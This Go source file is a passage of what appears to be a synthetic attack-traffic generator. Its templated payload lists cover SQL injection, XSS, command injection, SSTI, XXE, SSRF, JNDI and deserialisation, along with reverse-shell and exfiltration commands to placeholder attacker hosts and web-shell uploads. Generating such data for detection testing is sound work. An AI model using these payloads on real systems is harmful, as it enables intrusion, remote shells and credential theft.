package synthetic

// grammar is one class of attacks: patterns of payloads and the parameters that
// they are aimed at.
type grammar struct {
	class    string
	names    []string
	patterns []string
}

var secretFiles = []string{
	"/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/self/environ", "/var/log/apache2/access.log", "/etc/group", "/root/.ssh/id_rsa",
	"/etc/nginx/nginx.conf", "/proc/self/cmdline", "/var/www/html/config.php", "c:/windows/win.ini", "C:\\boot.ini", "/windows/system32/drivers/etc/hosts",
	"WEB-INF/web.xml", "/.git/config", "/.env", "wp-config.php", "/etc/issue", "/home/user/.bash_history", "/opt/app/application.properties",
}

// command makes a command line as intruders try them.
func (m maker) command() string {
	return m.fill(m.of(commands))
}

var commands = p(
	"id", "whoami", "uname -a", "ls -la", "ls /", "cat ‹file›", "ping -c ‹d› ‹evil›", "sleep ‹d›", "wget http://‹evil›/‹x›", "curl http://‹evil›/`whoami`",
	"nslookup ‹x›.‹evil›", "nc -e /bin/sh ‹ip› ‹n›", "bash -i >& /dev/tcp/‹ip›/‹n› 0>&1", "echo ‹x›", "expr ‹n› + ‹n›", "ifconfig", "ipconfig /all", "dir c:\\",
	"type c:\\windows\\win.ini", "net user", "cat${IFS}‹file›", "/bin/cat ‹file›", "/usr/bin/id", "pwd", "ps aux", "netstat -an", "env", "head -n 1 ‹file›",
	"python3 -c 'import os;os.system(\"id\")'", "perl -e 'print ‹n›'", "php -r 'phpinfo();'", "powershell -enc ‹id›", "certutil -urlcache -f http://‹evil›/a.exe a.exe",
	"rm -rf /tmp/‹x›", "chmod 777 /tmp/‹x›;/tmp/‹x›", "touch /tmp/‹x›", "c'a't /e'tc'/pa's'swd", "/???/c?t /???/p??s??", "w\\ho\\am\\i", "who$@ami", "tac ‹file›",
	"{cat,‹file›}", "echo ‹id›|base64 -d|sh", "cd /tmp; wget http://‹ip›/‹x›.sh; sh ‹x›.sh", "getent hosts ‹x›.‹evil›", "dig ‹x›.‹evil›", "printenv", "hostname",
)

func (m maker) evilHost() string {
	switch m.IntN(5) {
	case 0:
		return m.letters(12) + "." + m.pick("oast.fun", "oast.me", "interact.sh", "burpcollaborator.net", "oastify.com", "dnslog.cn", "ceye.io", "requestbin.net")
	case 1:
		return m.fill(p("‹ip›")[0])
	case 2:
		return m.pick("evil", "attacker", "example", m.letters(6)) + "." + m.pick("com", "org", "tk", "xyz", "ru", "cn")
	case 3:
		return m.fill(p("‹ip›:‹n›")[0])
	}
	return m.of(words) + m.of(words) + ".com"
}

var grammars = []grammar{
	{"sqli", []string{"id", "user", "name", "q", "search", "cat", "page", "sort", "login", "password", "item"}, p(
		"‹'|\"|')|'))|\")|1|1)|‹n››‹ | /**/|+|\t›‹or|and|OR|AND|\\|\\|›‹ |/**/|(›‹n›=‹n›",
		"' or '‹x›'='‹x›", "' or 1=1‹--|-- -|#|/*|;--›", "admin'‹--|-- -|#|/*›", "\" or \"\"=\"", "') or ('‹x›'='‹x›", "1 or 1=1", "-1' or ‹n›<‹n›‹#|-- ›",
		"‹1|-1|0|‹x›'|1'|1)|')› union ‹all |›select ‹null,|1,|‹col›,›‹null,|2,|@@version,›‹col› from ‹table›‹-- -|#||--+›",
		"‹n›' and (select ‹count(*)|1|ascii(substr(password,‹d›,1))› from ‹table›)‹>|=›‹n›-- ",
		"‹n›‹'|)|')|› and ‹sleep(‹d›)|benchmark(5000000,md5(‹n›))|pg_sleep(‹d›)|extractvalue(1,concat(0x7e,version()))|updatexml(1,concat(0x7e,user()),1)›‹-- -|#|›",
		"‹n›'‹;| ;›‹waitfor delay '0:0:‹d›'|exec xp_cmdshell 'whoami'|drop table ‹table›|select pg_sleep(‹d›)|insert into ‹table› values(‹n›)|shutdown|update ‹table› set password='‹x›'›--",
		"(select ‹n› from (select(sleep(‹d›)))‹x›)", "'\\|\\|(select ‹col› from ‹table› where rownum=1)\\|\\|'", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
		"‹n› ‹order|group› by ‹d›‹--|#|-- -›", "'+(select*from(select(sleep(‹d›)))a)+'", "case when (‹n›=‹n›) then 1 else (select 1 union select 2) end",
		"if(now()=sysdate(),sleep(‹d›),0)", "‹n›' rlike (select (case when (‹n›=‹n›) then 0x‹d›28 else 0x28 end))-- ‹x›", "-‹n›' like '-‹n›", "1'||dbms_pipe.receive_message('a',‹d›)||'",
		"' and 1=convert(int,(select @@version))--", "'; declare @q varchar(99);set @q='\\\\‹evil›\\a'; exec master.dbo.xp_dirtree @q;--", "‹n› and ascii(substring((select database()),‹d›,1))>‹n›",
		"'=0--+", "'-'", "' and extractvalue(rand(),concat(0x7e,(select ‹col› from ‹table› limit 0,1)))-- ", "1;select load_file('/etc/passwd')", "' into outfile '/var/www/‹x›.php'-- ",
		"‹w›'/*!50000union*//*!50000select*/1,2,‹col›-- ", "' having 1=1--", "' group by ‹col› having 1=1--", "%bf%27 or 1=1-- ", "‹n›) or (‹n›=‹n›", "x' and userid is null; --", "' or true--", "' or ''='",
		"'XOR(if(now()=sysdate(),sleep(‹d›),0))XOR'Z", "1 and (select 1 from(select count(*),concat((select database()),floor(rand(0)*2))x from information_schema.tables group by x)a)",
	)},
	{"xss", []string{"q", "search", "name", "comment", "msg", "title", "redirect", "callback", "s", "text"}, p(
		"<script>‹alert|prompt|confirm›(‹1|document.cookie|'‹x›'|document.domain|`‹x›`›)</script>", "‹\">|'>|›<‹img|image|video|audio› src=‹x|1|\"x\"› onerror=‹alert(1)|prompt`1`|confirm(document.domain)|\"alert(1)\"›>",
		"<svg‹ |/|\n|\t›onload=‹alert(1)|alert`1`|confirm()›>", "‹\"|'› on‹focus|mouseover|click|load|error|pointerenter›=‹alert(1)|\"alert(1)\"|prompt(1)› ‹autofocus|x=\"|a='›", "javascript:‹alert(1)|alert(document.cookie)|//%0aalert(1)|eval(name)›",
		"<iframe src=‹javascript:alert(1)|\"javascript:alert(1)\"|//‹evil››></iframe>", "<body onload=‹alert(1)|\"prompt(1)\"›>", "\"><script src=//‹evil›/‹x›.js></script>", "<a href=\"‹javascript:alert(1)|jAvAsCrIpT:alert(1)|data:text/html,<script>alert(1)</script>›\">‹w›</a>",
		"';‹alert|prompt›(‹1|document.cookie›);//", "\"-alert(1)-\"", "</script><script>alert(1)</script>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
		"<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>", "<img src=x onerror=eval(atob('‹id›'))>", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<marquee onstart=alert(1)>", "<x onclick=alert(1)>‹w›</x>",
		"<style>@import'//‹evil›/‹x›.css';</style>", "<link rel=stylesheet href=//‹evil›>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "{{constructor.constructor('alert(1)')()}}", "'-alert(1)-'", "\\'-alert(1)//",
		"<svg><script>alert&#40;1&#41;</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x></svg>", "window['al'+'ert'](1)", "top[\"al\"+\"ert\"](1)", "self['\\x61lert'](1)", "document.location='http://‹evil›/?c='+document.cookie", "fetch('//‹evil›?'+document.cookie)",
		"<form action=javascript:alert(1)><button>‹w›</button></form>", "<isindex type=image src=1 onerror=alert(1)>", "<img/src/onerror=setTimeout`alert\\x281\\x29`>", "[].constructor.constructor('alert(1)')()",
	)},
	{"path-traversal", []string{"file", "path", "page", "doc", "template", "include", "filename", "download", "lang", "dir"}, p(
		"../../../../..‹file›", "..\\..\\..\\..\\windows\\win.ini", "....//....//....//etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "/var/www/html/../../../‹file›", "‹file›", "‹file›%00", "..;/..;/manager/html", "file://‹file›",
		"php://filter/convert.base64-encode/resource=‹index.php|config.php|‹file››", "php://input", "expect://id", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+", "../../../../../../‹file›%00.jpg", "..%c0%af..%c0%af..%c0%afetc/passwd", "%2e%2e/%2e%2e/%2e%2e‹file›", ".../.../.../‹file›",
		"http://‹evil›/shell.txt?", "phar://‹x›.jpg/‹x›", "zip://‹x›.zip#‹x›.php", "../‹w›/../../‹.env|.git/config|config.yml›", "..\\..\\..\\..\\..\\boot.ini", "/%5c../%5c../%5c../etc/passwd", "jar:http://‹evil›/‹x›.jar!/‹x›", "/..././..././..././etc/passwd", "/proc/self/fd/‹d›",
	)},
	{"cmdi", []string{"ip", "host", "cmd", "ping", "file", "name", "domain", "exec", "target", "email"}, p(
		"‹ip›‹;|&&|\\||\\|\\||&›‹cmd›", ";‹cmd›", "| ‹cmd›", "&& ‹cmd›", "`‹cmd›`", "$(‹cmd›)", "‹x›;‹cmd›;", "‹x›|‹cmd›", "‹x›%0a‹cmd›", "\n‹cmd›", "'‹;|\\|›‹cmd›‹;|#|'›", "\"‹;|&›‹cmd›‹;|#|&\"›", "‹cmd›", "() { :;}; /bin/bash -c \"‹cmd›\"",
		"‹x›@‹host›;‹cmd›", "-c ‹cmd›", "|| ‹cmd› ||", "& ‹cmd› &", "${@print(system('‹cmd›'))}", "<(‹cmd›)", "1;‹cmd› #", "$(‹cmd›>/tmp/‹x›)", "&‹cmd›&'\\\"`0&‹cmd›&`'",
	)},
	{"php", []string{"code", "cmd", "eval", "data", "x", "template", "c", "action"}, p(
		"<?php ‹system|passthru|shell_exec|exec|eval›(‹$_GET['c']|$_POST[1]|'‹cmd›'|base64_decode('‹id›')›); ?>", "<?=`$_GET[0]`?>", "‹phpinfo()|system('‹cmd›')|eval($_POST[a])|assert($_REQUEST['x'])|file_put_contents('‹x›.php','<?php phpinfo();')|print(md5(‹n›))›;", "@eval(base64_decode('‹id›'));",
		"\\think\\app/invokefunction&function=call_user_func_array&vars[0]=‹phpinfo|system›&vars[1][]=‹cmd›", "allow_url_include=1&auto_prepend_file=php://input", "${@phpinfo()}", "{php}echo `id`;{/php}", "{if phpinfo()}{/if}", "{if:phpinfo()}{end if}", "';system('‹cmd›');//", "\".system('‹cmd›').\"", "die(md5(‹n›))", "var_dump(md5(‹n›));",
		"O:‹d›:\"‹x›\":1:{s:4:\"‹x›\";s:‹d›:\"‹cmd›\";}", "a:2:{i:0;O:‹d›:\"‹x›\":0:{}i:1;s:3:\"‹x›\";}", "-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input",
	)},
	{"ssti", []string{"name", "template", "msg", "view", "preview", "q", "lang", "email", "content"}, p(
		"{{‹d›*‹n›}}", "${‹n›*‹n›}", "#{‹n›*‹n›}", "<%= ‹n›*‹n› %>", "{{config}}", "{{self.__init__.__globals__.__builtins__.__import__('os').popen('‹cmd›').read()}}", "{{''.__class__.__mro__[1].__subclasses__()[‹n›]}}", "{{request.application.__globals__.__builtins__}}", "{{lipsum.__globals__['os'].popen('‹cmd›').read()}}",
		"${T(java.lang.Runtime).getRuntime().exec('‹cmd›')}", "*{T(java.lang.Runtime).getRuntime().exec('‹cmd›')}", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"‹cmd›\").getInputStream()).next()}__::.x", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('‹cmd›')}}", "{{['‹cmd›']|filter('system')}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"‹cmd›\")}",
		"#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('‹cmd›')", "<%= system('‹cmd›') %>", "<%= `‹cmd›` %>", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('‹cmd›')\")()}}", "#{7*7}#{global.process.mainModule.require('child_process').execSync('‹cmd›')}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
		"%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='‹cmd›').(#p=new java.lang.ProcessBuilder(#cmd)).(#process=#p.start())}", "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"‹cmd›\").getInputStream(),\"utf-8\"))}", "%{‹n›*‹n›}", "@(‹n›*‹n›)", "[[${‹n›*‹n›}]]", "{{‹d›*'‹d›'}}", "{{dump(app)}}", "{{settings.SECRET_KEY}}", "${class.getClassLoader()}", "{{7*7}}[[5*5]]", "a{*comment*}b", "{system('‹cmd›')}", "{{cycler.__init__.__globals__.os.popen('‹cmd›').read()}}",
	)},
	{"deserialise", []string{"data", "object", "session", "viewstate", "token", "payload", "rememberMe", "state"}, p(
		"rO0ABXNyAB‹id›", "rO0ABQ‹id›", "aced0005737200‹id›", "H4sIAAAAAAAA‹id›", "O:‹d›:\"‹x›\":‹d›:{s:‹d›:\"‹x›\";s:‹d›:\"‹cmd›\";}", "a:1:{i:0;O:‹d›:\"‹x›\":1:{s:‹d›:\"‹file›\";N;}}", "gASV‹id›", "cposix\nsystem\np1\n(S'‹cmd›'\ntR.", "KGRwMApTJw‹id›", "AAEAAAD/////AQAAAAAAAAAM‹id›", "!!python/object/apply:os.system ['‹cmd›']", "--- !ruby/object:Gem::Installer\ni: x", "BAhvOkBBY3RpdmVTdXBwb3J0‹id›",
		"{\"@type\":\"‹org.apache|com.sun.rowset.JdbcRowSetImpl|java.net.Inet4Address|com.mchange.v2.c3p0.WrapperConnectionPoolDataSource›‹.x|›\",\"val\":\"‹evil›\"}", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\"}", "{\"rce\":\"_$$ND_FUNC$$_function(){‹x›}()\"}", "<object-stream><java.util.PriorityQueue/></object-stream>", "HexAsciiSerializedMap:ACED0005‹id›", "[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{\"url\":\"jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://‹evil›/x.sql'\"}]",
	)},
	{"pollution", []string{"__proto__[‹x›]", "constructor[prototype][x]", "__proto__.admin", "name[#post_render][]", "name[#markup]", "class.classLoader.x", "_method[__construct]", "filter[]"}, p("‹w›", "system", "passthru", "‹cmd›", "1", "true", "printf", "assert", "phpinfo")},
	{"jndi", []string{"q", "user", "id", "x", "name"}, p(
		"${jndi:‹ldap|rmi|dns|ldaps|iiop›://‹evil›/‹x›}", "${${lower:j}ndi:${lower:l}dap://‹evil›/‹x›}", "${${::-j}${::-n}${::-d}${::-i}:rmi://‹evil›/‹x›}", "${jndi:dns://${env:‹USER|PATH|AWS_SECRET_ACCESS_KEY›}.‹evil›}", "${${env:X:-j}ndi${env:X:-:}ldap://‹evil›/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://‹evil›/‹x›}",
	)},
	{"ssrf", []string{"url", "uri", "link", "image", "src", "callback", "webhook", "proxy", "feed", "host", "avatar", "target"}, p(
		"http://169.254.169.254/latest/meta-data/‹iam/security-credentials/|hostname|›", "http://metadata.google.internal/computeMetadata/v1/", "http://‹127.0.0.1|localhost|0.0.0.0|[::1]|127.1|2130706433|0x7f000001|017700000001|127.0.0.1.nip.io|10.0.0.‹d›|192.168.1.‹d›|172.17.0.1›‹:22|:6379|:8080|:9200|:2375|›/‹admin|server-status|_cat/indices|containers/json|›",
		"gopher://127.0.0.1:‹6379|3306|25|11211›/_‹x›", "dict://‹127.0.0.1|localhost›:‹6379|11211›/info", "file://‹file›", "http://‹x›.‹evil›/", "https://‹evil›/?‹x›", "ftp://‹evil›/‹x›", "http://‹host›@‹127.0.0.1|169.254.169.254|‹evil››/", "http://100.100.100.200/latest/meta-data/", "ldap://localhost:389/%0astats", "http://localhost#@‹host›/", "http://[::ffff:127.0.0.1]:80/", "netdoc:///etc/passwd", "//127.0.0.1:8080/manager/html", "http:///127.0.0.1/",
		"http://169.254.170.2/v2/‹credentials|metadata›", "http://‹kubernetes.default.svc|rancher-metadata|instance-data|consul|redis|vault|docker.for.mac.localhost|host.docker.internal|metadata.nicob.net›‹:8500|:6379|:2379|›/‹api|latest/|v1/›", "http://127.‹d›.‹d›.‹d›/", "http://0/", "http://0‹d›77.0.0.1/", "http://[0:0:0:0:0:ffff:127.0.0.1]/", "http://[::]:‹22|25|3306›/", "ftp://‹ip›:21/", "smb://‹ip›/‹x›", "http://‹host›.‹127.0.0.1|10.0.0.1›.‹nip|sslip|xip›.io/", "http://192.168.‹d›.‹d›:‹n›/‹w›", "http://localhost:‹n›/‹w›?‹w›=‹w›", "jar:http://127.0.0.1!/", "dict://‹evil›:‹n›/‹x›", "tftp://‹evil›/‹x›", "unix:///var/run/docker.sock", "http://localhost%2523@‹host›/", "http://spoofed.‹evil›/",
	)},
	{"redirect", []string{"next", "url", "redirect", "return", "returnUrl", "goto", "dest", "continue", "redirect_uri", "r", "target", "forward"}, p(
		"//‹evil›", "https://‹evil›", "http://‹evil›/‹w›", "///‹evil›/%2f..", "/\\‹evil›", "\\\\‹evil›", "https:‹evil›", "https://‹host›@‹evil›", "https://‹host›.‹evil›/", "//‹evil›/..;/css", "/%09/‹evil›", "http:/\\‹evil›", "//‹x›%E3%80%82com", "////‹evil›/", "https://‹evil›#‹host›", "https:///‹evil›", "javascript:alert(1)", "/%0d/‹evil›", "http:\\\\‹evil›",
		"//‹evil›%00.‹host›", "https://‹evil›?‹host›", "https://‹evil›\\@‹host›", "/.‹evil›", "http:‹evil›", "//‹host›@‹evil›/", "/\t/‹evil›", "//‹evil›/%2e%2e", "https://www.‹host›.‹evil›", "//‹w›.‹com|net|org›/%2f..", "javascript://‹host›/%0aalert(1)", "http://‹ip›/", "〱‹evil›", "/〵‹evil›", "//0x‹n›/", "http://‹evil›%2f%2f‹host›", "///////‹evil›",
	)},
	{"crlf", []string{"url", "lang", "redirect", "page", "q", "name"}, p(
		"‹w›\r\nSet-Cookie: ‹x›=‹x›", "%0d%0aSet-Cookie:‹x›=‹x›", "\r\n\r\n<script>alert(1)</script>", "‹w›\r\nLocation: http://‹evil›", "%E5%98%8A%E5%98%8DSet-Cookie:‹x›=1", "\r\nX-Injected: ‹x›", "‹w›\nHTTP/1.1 200 OK\r\nContent-Type: text/html", "‹w›@‹host›\r\nBcc: ‹x›@‹evil›", "‹w›%0aCc:‹x›@‹evil›", "‹w›\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
	)},
	{"ldap", []string{"user", "uid", "cn", "name", "filter"}, p(
		"*)(uid=*", "*)(|(uid=*", "admin)(&)", "*)(cn=*))(|(cn=*", "*))%00", "‹x›*)((|userPassword=*)", "(&(objectClass=*)(uid=*))", "*()|&'", "admin*)((|userpassword=*)", "‹x›)(|(password=*))",
	)},
	{"xpath", []string{"user", "name", "q", "id"}, p(
		"' or '1'='1' or 'a'='a", "' or count(parent::*[position()=‹d›])=0 or 'a'='b", "x' or name()='‹w›' or 'x'='y", "'] | //* | //*['", "' and string-length(//user[‹d›]/password)=‹d› and '1'='1", "//user[name/text()='' or '1'='1']", "' or substring(name(/*[1]),1,1)='‹x›", "doc('http://‹evil›/')",
	)},
	{"nosql", []string{"user[$ne]", "password[$gt]", "login[$regex]", "q", "filter", "id"}, p(
		"‹x›", "", "^a.*", "';return true;var a='", "' || '1'=='1", "{\"$ne\":null}", "{\"$gt\":\"\"}", "{\"$where\":\"sleep(‹n›)\"}", "1, $where: '1 == 1'", "' && this.password.match(/.*/)//", "{$regex: '.*'}", "';sleep(‹n›);'", "[$ne]=1", "db.‹w›.find()", "'; while(true){}; '", "{\"$or\":[{},{\"‹x›\":\"‹x›\"}]}",
	)},
	{"ssi", []string{"name", "q", "page"}, p("<!--#exec cmd=\"‹cmd›\" -->", "<!--#include virtual=\"‹file›\" -->", "<!--#printenv -->", "<!--#echo var=\"DATE_LOCAL\" -->", "<esi:include src=\"http://‹evil›/\"/>", "<pre><!--#exec cmd=\"‹cmd›\"--></pre>")},
	{"java", []string{"class.module.classLoader.resources.context.parent.pipeline.first.pattern", "data", "object", "name", "spring.cloud.function.routing-expression"}, p(
		"T(java.lang.Runtime).getRuntime().exec(\"‹cmd›\")", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream();", "new java.lang.ProcessBuilder(new java.lang.String[]{\"‹cmd›\"}).start()", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ‹id›",
		"{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://‹evil›/‹x›\",\"autoCommit\":true}", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://‹evil›/\"]]]]", "#{T(java.lang.System).getenv()}", "java.lang.Runtime.getRuntime().exec('‹cmd›')", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>‹cmd›</string></void></array><void method=\"start\"/></object></java>",
		"import os;os.system('‹cmd›')", "__import__('os').system('‹cmd›')", "cos\nsystem\n(S'‹cmd›'\ntR.", "require('child_process').exec('‹cmd›')", "process.mainModule.require('child_process').execSync('‹cmd›')", "_$$ND_FUNC$$_function(){require('child_process').exec('‹cmd›')}()", "{\"__proto__\":{\"‹x›\":1}}", "AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQ‹id›",
		"Runtime.getRuntime().exec(\"‹cmd›\")", "println \"‹cmd›\".execute().text", "def p = \"‹cmd›\".execute(); p.waitFor()", "eval(compile('import os','x','exec'))",
	)},
}

// bodies are attacks that are a whole body: external entities and the like.
var bodies = p(
	`<?xml version="1.0"?><!DOCTYPE ‹x› [<!ENTITY ‹x› SYSTEM "file://‹file›">]><‹w›><‹w›>&‹x›;</‹w›></‹w›>`,
	`<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "‹http://‹evil›/|file:///etc/passwd|php://filter/read=convert.base64-encode/resource=index.php|expect://id|http://169.254.169.254/›">]><foo>&xxe;</foo>`,
	`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE r [<!ENTITY % ‹x› SYSTEM "http://‹evil›/‹x›.dtd">%‹x›;]><r/>`,
	`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>`,
	`<‹w› xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file://‹file›"/></‹w›>`,
	`<?xml version="1.0"?><!DOCTYPE ‹w› PUBLIC "-//‹x›//‹x›" "http://‹evil›/‹x›.dtd"><‹w›>‹n›</‹w›>`,
	`<?xml version="1.0" standalone="yes"?><!DOCTYPE test [ <!ENTITY xxe SYSTEM "file://‹file›" > ]><svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1"><text x="0" y="16">&xxe;</text></svg>`,
	`<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><object class="java.lang.ProcessBuilder"><void index="0"><string>‹cmd›</string></void><void method="start"/></object></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>`,
	`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="document('‹file›')"/></xsl:template></xsl:stylesheet>`,
	`<!DOCTYPE replace [<!ENTITY ent SYSTEM "‹file›"> ]><userInfo><firstName>‹name›</firstName><lastName>&ent;</lastName></userInfo>`,
	`<?xml version="1.0"?><!DOCTYPE ‹x› [<!ENTITY % ‹x› SYSTEM '‹file://‹file›|http://‹evil›/›'><!ENTITY % dtd SYSTEM "http://‹evil›/‹x›.dtd">%dtd;]><‹w›>‹w›</‹w›>`,
	`<?xml version="1.0" encoding="‹UTF-8|ISO-8859-1|UTF-7›"?>`+"\n"+`<!DOCTYPE ‹w› [`+"\n"+`  <!ELEMENT ‹w› (#PCDATA)>`+"\n"+`  <!ENTITY ‹x› SYSTEM "‹jar:http://localhost!/x|netdoc:///etc/passwd|ftp://‹evil›/|gopher://localhost/|https://‹evil›/‹x›|‹file›|file:///c:/windows/win.ini|http://‹ip›:‹n›/›">`+"\n"+`]>`+"\n"+`<‹w›><id>‹n›</id><‹w›>&‹x›;</‹w›></‹w›>`,
	`<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><‹w›><![CDATA[<!DOCTYPE d [<!ENTITY % x SYSTEM "http://‹evil›/"> %x;]><a/>]]></‹w›></soap:Body></soap:Envelope>`,
	`<?xml-stylesheet type="text/xml" href="http://‹evil›/‹x›.xsl"?><‹w›>‹w›</‹w›>`,
	`<!DOCTYPE ‹w› [<!ENTITY ‹x› "‹x›"><!ENTITY a "&‹x›;&‹x›;&‹x›;&‹x›;"><!ENTITY b "&a;&a;&a;&a;">]><‹w›>&b;</‹w›>`,
	`<‹w›><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://‹evil›/‹x›"/></‹w›>`,
	`<methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://‹evil›/</string></value></param></params></methodCall>`,
	`{"command":"‹run|exec›","utilCmdArgs":"-c ‹cmd›"}`,
	`{"cmd":"‹cmd›","args":["-c","‹cmd›"]}`,
	`{"__proto__":{"‹x›":"‹w›"},"‹w›":‹n›}`, `{"constructor":{"prototype":{"‹x›":true}}}`,
	`{"‹user|username|login›":{"‹$ne|$gt|$regex|$exists›":"‹|x|.*›"},"password":{"$ne":‹null|1|""›}}`,
	`{"query":"mutation{import(host:\"localhost\",port:80,path:\"/;‹cmd›\"){result}}"}`,
	`{"url":"http://‹evil›/‹x›","method":"GET","headers":{"X-Aws":"http://169.254.169.254/latest/meta-data/"}}`,
	`{"query":"{__schema{types{name fields{name args{name}}}}}"}`,
	`{"query":"query IntrospectionQuery{__schema{queryType{name}mutationType{name}types{...FullType}}}"}`,
)

// uploads are files that a server would run, by name and content.
var uploads = [][2]string{
	{"‹x›.php", "<?php ‹system|eval|passthru›($_‹GET|POST|REQUEST›['‹x›']); ?>"},
	{"‹x›.phtml", "<?php phpinfo(); ?>"},
	{"‹x›.php.jpg", "GIF89a<?php system('‹cmd›'); ?>"},
	{"‹x›.jsp", "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"},
	{"‹x›.aspx", "<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(Request[\"c\"]); %>"},
	{"../../‹x›.php", "<?=`$_GET[0]`?>"},
	{".htaccess", "AddType application/x-httpd-php .‹x›"},
	{"‹x›.php5", "<?php echo md5(‹n›);unlink(__FILE__);?>"},
	{"‹x›.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"},
	{"‹x›.jspx", "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"1.2\"><jsp:scriptlet>out.println(‹n›);</jsp:scriptlet></jsp:root>"},
	{"‹x›.html", "<script>alert(document.domain)</script>"},
	{"‹x›.asp;.jpg", "<%eval request(\"‹x›\")%>"},
	{"‹x›.php%00.png", "<?php @eval($_POST['‹x›']);?>"},
	{"‹x›.shtml", "<!--#exec cmd=\"‹cmd›\" -->"},
	{"‹x›.pHp", "<?php echo shell_exec('‹cmd›');?>"},
	{"‹x›.war", "<%= \"‹x›\" %>"},
	{"‹x›.gif", "GIF89a; <?php ‹system|eval|assert›($_GET['‹x›']); ?>"},
	{"..\\..\\web.config", "<configuration><system.webServer><handlers/></system.webServer></configuration>"},
	{"../../../‹var/www/html|etc/cron.d›/‹x›", "* * * * * root ‹cmd›"},
	{"‹x›.sh", "#!/bin/sh\n‹cmd›\n"},
	{"‹x›.svg", "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file://‹file›\">]><svg>&x;</svg>"},
	{"‹x›.cfm", "<cfexecute name=\"cmd.exe\" arguments=\"/c ‹cmd›\"/>"},
	{"‹x›.jpg", "push graphic-context\nfill 'url(https://‹evil›/x.jpg\"|‹cmd›\")'\npop graphic-context"},
	{"‹x›.phar", "<?php __HALT_COMPILER(); ?>"},
	{"‹x›.py", "import os\nos.system('‹cmd›')\n"},
	{"‹x›.pl", "#!/usr/bin/perl\nsystem($ENV{QUERY_STRING});"},
	{"‹x›.exe", "MZ‹x›"},
	{"‹x›.jar", "PK‹x›"},
	{"‹x›.aspx.jpg", "<script runat=\"server\">void Page_Load(){Response.Write(\"‹x›\");}</script>"},
	{"‹x›.csv", "=cmd|' /C calc'!A0,‹n›"},
	{".user.ini", "auto_prepend_file=‹x›.jpg"},
}

// targets are paths that only intruders ask for.
var exploitPaths = p(
	"/‹cgi-bin|scripts|bin›/‹..%2f..%2f..%2fetc/passwd|.%2e/.%2e/.%2e/.%2e/bin/sh|‹x›.cgi?`‹cmd›`›", "/.git/‹config|HEAD|index›", "/.env", "/wp-config.php‹.bak|~|.old|.swp›", "/‹x›/..;/manager/html", "/actuator/‹env|heapdump|gateway/routes|jolokia›", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	"/solr/admin/cores?action=‹x›&wt=json", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1", "/‹%24%7B|${›‹n›*‹n›‹%7D|}›/actionChain1.action", "/static/../../../..‹file›", "/icons/.%2e/%2e%2e/%2e%2e/etc/passwd", "/‹w›//‹evil›/%2f..", "/phpmyadmin/scripts/setup.php",
